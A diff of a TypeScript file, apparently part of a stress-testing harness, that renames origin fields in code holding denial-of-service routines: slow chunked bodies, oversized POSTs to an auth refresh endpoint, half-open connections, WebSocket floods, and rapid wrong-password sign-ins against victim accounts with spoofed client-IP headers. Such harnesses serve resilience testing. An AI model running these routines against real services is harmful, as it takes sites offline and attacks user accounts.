@@ -16,8 +16,8 @@ export interface Guest {
   readonly cookie: string
   readonly xsrf: string
   readonly camera: string
-  readonly portal: string
-  readonly provider: string
+  readonly portalOrigin: string
+  readonly providerOrigin: string
 }
 
 /** Number of requests by outcome, shared by all guests. */
@@ -39,8 +39,14 @@ function sendRequest(
 ): Promise<{ status: number; text: string } | null> {
   return new Promise((resolve) => {
     const { method = 'GET', body, headers = {} } = init
-    const from = { ...headers, [CLIENT_IP_HEADER]: guest.address }
-    const out = request(address, { method, headers: from, localAddress: guest.address, agent: false, timeout: 20_000 })
+    const allHeaders = { ...headers, [CLIENT_IP_HEADER]: guest.address }
+    const out = request(address, {
+      method,
+      headers: allHeaders,
+      localAddress: guest.address,
+      agent: false,
+      timeout: 20_000,
+    })
     out.on('response', (answer: IncomingMessage) => {
       const chunks: Buffer[] = []
       answer.on('data', (chunk: Buffer) => chunks.push(chunk))
@@ -55,7 +61,7 @@ function sendRequest(
 
 const getPageHeaders = (guest: Guest) => ({
   'content-type': 'application/json',
-  origin: guest.portal,
+  origin: guest.portalOrigin,
   'sec-fetch-site': 'same-origin',
   cookie: guest.cookie,
   [XSRF_HEADER]: guest.xsrf,
@@ -68,15 +74,15 @@ const getPageHeaders = (guest: Guest) => ({
 async function sendCall(guest: Guest, counts: OutcomeCounts, contract: Call, payload: object): Promise<string | null> {
   const body = JSON.stringify(payload)
   const init = { method: contract.method, body, headers: getPageHeaders(guest) }
-  const answer = await sendRequest(guest, guest.portal + formatGatewayPath(contract), init)
+  const answer = await sendRequest(guest, guest.portalOrigin + formatGatewayPath(contract), init)
   countOutcome(counts, `${contract.path} ${answer?.status ?? 'cut'}`)
   return answer?.status === 200 ? answer.text : null
 }
 
 function floodSocket(guest: Guest, counts: OutcomeCounts, url: string, message: (n: number) => string): Promise<void> {
   return new Promise((resolve) => {
-    const from = { localAddress: guest.address, headers: { [CLIENT_IP_HEADER]: guest.address } }
-    const socket = new WebSocket(url, { origin: guest.portal, ...from })
+    const requestOptions = { localAddress: guest.address, headers: { [CLIENT_IP_HEADER]: guest.address } }
+    const socket = new WebSocket(url, { origin: guest.portalOrigin, ...requestOptions })
     socket.on('open', () => {
       for (let n = 0; n < SOCKET_MESSAGES; n++) socket.send(message(n), () => undefined)
     })
@@ -121,7 +127,7 @@ const attackWithBodies: Attack = async (guest, counts, isEnded) => {
   while (!isEnded()) {
     const open = Array.from({ length: OPEN_REQUESTS }, (_, n) => {
       const headers = { ...getPageHeaders(guest), 'transfer-encoding': 'chunked', [CLIENT_IP_HEADER]: guest.address }
-      const address = guest.portal + (paths[n % paths.length] ?? '/')
+      const address = guest.portalOrigin + (paths[n % paths.length] ?? '/')
       const out = request(address, { method: 'POST', headers, localAddress: guest.address, agent: false })
       out.on('response', (answer) => (countOutcome(counts, `slow body ${answer.statusCode}`), answer.resume()))
       out.on('error', () => countOutcome(counts, 'slow body cut'))
@@ -130,7 +136,7 @@ const attackWithBodies: Attack = async (guest, counts, isEnded) => {
     })
     for (let second = 0; second < 10 && !isEnded(); second++) {
       for (const out of open) out.write('x')
-      await sendRequest(guest, guest.portal + '/api/auth/refresh', {
+      await sendRequest(guest, guest.portalOrigin + '/api/auth/refresh', {
         method: 'POST',
         body: 'x'.repeat(2_000_000),
         headers: getPageHeaders(guest),
@@ -142,7 +148,7 @@ const attackWithBodies: Attack = async (guest, counts, isEnded) => {
 }
 
 const attackWithHalfOpenConnections: Attack = async (guest, counts, isEnded) => {
-  const { hostname, port } = new URL(guest.provider)
+  const { hostname, port } = new URL(guest.providerOrigin)
   while (!isEnded()) {
     const open = Array.from({ length: OPEN_REQUESTS * 2 }, (_, n) => {
       const socket = connect({ host: hostname, port: Number(port), localAddress: guest.address })
@@ -194,9 +200,11 @@ const attackSignIn: Attack = async (guest, counts, isEnded) => {
   for (let n = 0; !isEnded(); n++) {
     const body = JSON.stringify({ email: `victim${n % 50}@example.com`, password: `wrong-password-${n}` })
     const headers = { 'content-type': 'application/json' }
-    void sendRequest(guest, `${guest.provider}/api/v2/user/login?source=web`, { method: 'POST', body, headers }).then(
-      (answer) => countOutcome(counts, `sign-in ${answer?.status ?? 'cut'}`),
-    )
+    void sendRequest(guest, `${guest.providerOrigin}/api/v2/user/login?source=web`, {
+      method: 'POST',
+      body,
+      headers,
+    }).then((answer) => countOutcome(counts, `sign-in ${answer?.status ?? 'cut'}`))
     await sleep(16)
   }
 }
